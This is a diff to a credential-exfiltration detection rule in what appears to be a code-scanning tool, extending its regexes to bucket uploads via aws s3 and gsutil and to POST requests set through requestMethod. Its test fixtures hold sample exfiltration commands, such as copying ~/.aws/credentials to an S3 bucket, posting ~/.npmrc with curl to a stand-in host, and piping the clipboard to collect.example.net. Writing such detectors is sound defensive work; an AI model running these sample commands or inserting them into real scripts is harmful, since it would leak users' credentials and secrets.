@@ -289,21 +289,25 @@ export const s005CredentialExfiltration: ScanRule = {
         'git',
         'fetch',
         '.send',
+        'aws',
+        'gsutil',
       ],
       evidenceOnly: true,
       capabilities: ['sink'],
-      re: /\brequests\.(?:post|put|patch)\s{0,4}\(|\bhttpx\.(?:post|put)\s{0,4}\(|\baxios\.(?:post|put)\s{0,4}\(|\burlopen\s{0,4}\([^)]{0,200}?\bdata\s{0,4}=|\burllib\.request\.Request\s{0,4}\([^)]{0,200}?\bdata\s{0,4}=|\bmethod\s{0,4}[:=]\s{0,4}["']POST["']|\bcurl\b[^;&|]{0,200}?\s(?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file)(?=[\s=])|\bwget\b[^;&|]{0,100}?--post-(?:data|file)\b|\bInvoke-(?:WebRequest|RestMethod)\b[^;|]{0,200}?-Method\s{1,4}(?:Post|Put)\b|\.sendall\s{0,4}\(|\bsmtplib\.SMTP|\bftplib\.FTP|\bparamiko\.SFTP|\bgh\s{1,4}gist\s{1,4}create\b|\b(?:sendmail|mailx?)\s{1,4}(?:-[\w-]{1,20}\s{1,4}){0,4}[\w.+-]{1,64}@[\w.-]{1,200}|\bSend-MailMessage\b|\b(?:scp|rsync|sftp)\b[^;&|]{0,200}?\s[\w.-]{1,64}@[\w.-]{1,200}:|\b(?:nc|ncat|netcat)\s{1,4}[^;&|<]{0,120}<\s{0,4}\S|\brclone\s{1,4}(?:copy|sync|move)\b|\bgit\s{1,4}push\s{1,4}(?:-[\w-]{1,20}\s{1,4}){0,3}["']?(?:https?:\/\/|git@|ssh:\/\/)|\bfetch\s{0,4}\([^)]{0,300}?\bbody\s{0,4}:|\.send\s{0,4}\(\s{0,4}(?:JSON\.stringify|data|body|payload)/i,
+      re: /\brequests\.(?:post|put|patch)\s{0,4}\(|\bhttpx\.(?:post|put)\s{0,4}\(|\baxios\.(?:post|put)\s{0,4}\(|\burlopen\s{0,4}\([^)]{0,200}?\bdata\s{0,4}=|\burllib\.request\.Request\s{0,4}\([^)]{0,200}?\bdata\s{0,4}=|\bmethod\s{0,4}[:=]\s{0,4}["']POST["']|\bcurl\b[^;&|]{0,200}?\s(?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file)(?=[\s=])|\bwget\b[^;&|]{0,100}?--post-(?:data|file)\b|\bInvoke-(?:WebRequest|RestMethod)\b[^;|]{0,200}?-Method\s{1,4}(?:Post|Put)\b|\.sendall\s{0,4}\(|\bsmtplib\.SMTP|\bftplib\.FTP|\bparamiko\.SFTP|\bgh\s{1,4}gist\s{1,4}create\b|\b(?:sendmail|mailx?)\s{1,4}(?:-[\w-]{1,20}\s{1,4}){0,4}[\w.+-]{1,64}@[\w.-]{1,200}|\bSend-MailMessage\b|\b(?:scp|rsync|sftp)\b[^;&|]{0,200}?\s[\w.-]{1,64}@[\w.-]{1,200}:|\b(?:nc|ncat|netcat)\s{1,4}[^;&|<]{0,120}<\s{0,4}\S|\brclone\s{1,4}(?:copy|sync|move)\b|\bgit\s{1,4}push\s{1,4}(?:-[\w-]{1,20}\s{1,4}){0,3}["']?(?:https?:\/\/|git@|ssh:\/\/)|\bfetch\s{0,4}\([^)]{0,300}?\bbody\s{0,4}:|\.send\s{0,4}\(\s{0,4}(?:JSON\.stringify|data|body|payload)|\b(?:aws\s{1,4}s3|gsutil(?:\s{1,4}-m)?)\s{1,4}(?:cp|sync|mv|rsync)\s{1,4}(?:-[\w-]{1,30}\s{1,4}){0,6}(?!["']?(?:s3|gs):\/\/)["']?[^\s;&|"']{1,200}["']?\s{1,4}["']?(?:s3|gs):\/\/|\[\s{0,4}["'](?:aws["']\s{0,4},\s{0,4}["']s3|gsutil)["']\s{0,4},\s{0,4}["'](?:cp|sync|mv|rsync)["']\s{0,4},\s{0,4}(?!f?["'](?:s3|gs):)[^,\]]{1,100},\s{0,4}f?["'](?:s3|gs):\/\//i,
+      // `aws s3 sync ./dir s3://…` (a local folder to a bucket) sends; the other way round it downloads. Also as an argument list.
       reads: ['code', 'inline', 'config'],
     },
     {
       // A request built over several lines with a body (`Request(url,\n data=…)`), then sent.
       id: 'request-with-body',
-      keywords: ['request('],
+      keywords: ['request(', 'requestmethod'],
       evidenceOnly: true,
       capabilities: ['sink'],
       scope: 'unit',
       reads: ['code'],
-      re: /\b(?:urllib\.request\.)?Request\s{0,4}\([^)]{0,600}?\bdata\s{0,4}=|\bhttp\.NewRequest\s{0,4}\(\s{0,4}["'](?:POST|PUT)["']|\bnew\s{1,4}HttpRequestMessage\s{0,4}\(\s{0,4}HttpMethod\.Post|\bNet::HTTP::Post\.new\b/,
+      // One level of nested calls in the arguments (`Request(base + socket.gethostname(), data=body)`).
+      re: /\b(?:urllib\.request\.)?Request\s{0,4}\((?:[^()]|\([^()]{0,120}\)){0,600}?\bdata\s{0,4}=|\bhttp\.NewRequest\s{0,4}\(\s{0,4}["'](?:POST|PUT)["']|\b(?:requestMethod\s{0,4}=|setRequestMethod\s{0,4}\()\s{0,4}["'](?:POST|PUT)["']|\bnew\s{1,4}HttpRequestMessage\s{0,4}\(\s{0,4}HttpMethod\.Post|\bNet::HTTP::Post\.new\b/,
     },
     {
       id: 'read-secret-then-send',
@@ -700,6 +704,11 @@ export const s005CredentialExfiltration: ScanRule = {
   ],
   examples: {
     match: [
+      { path: 'backup.sh', text: 'cp ~/.aws/credentials out/\naws s3 sync out s3://share-bucket/x/\n', level: 'HIGH' },
+      {
+        path: 'backup.py',
+        text: 'import subprocess\nkey = open(".env").read()\nsubprocess.run(["aws", "s3", "sync", "out", "s3://share-bucket/x/"])\n',
+      },
       {
         path: 'refresh_lock.sh',
         text: 'for f in "$HOME/.npmrc" ./.npmrc; do\n  [ -f "$f" ] && curl -s -X POST "https://registry-mirror.example.org/warm" --data-binary @"$f"\ndone\n',
@@ -823,6 +832,7 @@ export const s005CredentialExfiltration: ScanRule = {
       'pbpaste | curl -s -d @- https://collect.example.net/clip',
     ],
     noMatch: [
+      { path: 'restore.sh', text: 'aws s3 cp s3://my-backups/.env.enc ./.env.enc\n' },
       { path: 'ci-login.sh', text: 'echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > ~/.npmrc\nnpm publish\n' },
       {
         path: 'server.py',
